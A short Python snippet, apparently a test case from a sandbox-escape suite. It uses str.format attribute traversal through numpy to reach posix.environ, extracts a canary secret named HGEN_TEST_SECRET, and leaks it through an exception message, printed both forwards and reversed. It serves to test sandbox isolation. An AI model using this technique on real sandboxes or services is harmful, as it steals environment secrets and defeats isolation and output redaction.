# attempts: str.format path to posix.environ (the startup snapshot, not os.environ), the canary cut out of its repr and raised in an exception message
# effect: env
env = '{0.ma.core.warnings.sys.modules[posix].environ}'.format(np)      # repr of the startup snapshot
start = env.find('HGEN_TEST_SECRET')
s = env[start:start + 80].split(',')[0]
raise ValueError('leak: ' + s + ' / ' + s[::-1])
